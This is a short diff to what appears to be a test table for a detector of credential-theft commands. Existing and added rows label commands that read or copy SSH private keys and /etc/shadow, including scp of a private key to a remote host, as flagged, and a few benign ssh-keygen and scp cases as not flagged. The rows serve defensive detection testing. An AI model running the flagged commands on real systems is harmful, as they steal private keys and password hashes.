@@ -205,6 +205,12 @@ correlation: {type: event_count, rules: [base], group-by: [host.name], timespan:
             ("scp", "-i", "/root/.ssh/id_ed25519", "/root/.ssh/id_rsa", "u@h2:/tmp/"),
             True,
         ),  # the key is the cargo
+        (
+            ("ip", "netns", "exec", "ns1", "scp", "-q", "-i", "/k/id_ed25519", "/srv/n.txt", "root@h:/x"),
+            False,
+        ),
+        (("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "/srv/k/id_ed25519"), False),
+        (("ssh-keygen", "-y", "-f", "/root/.ssh/id_rsa"), True),
         (("cat", "/root/.ssh/id_rsa"), True),
         (("cp", "/etc/shadow", "/tmp/s"), True),
     ],
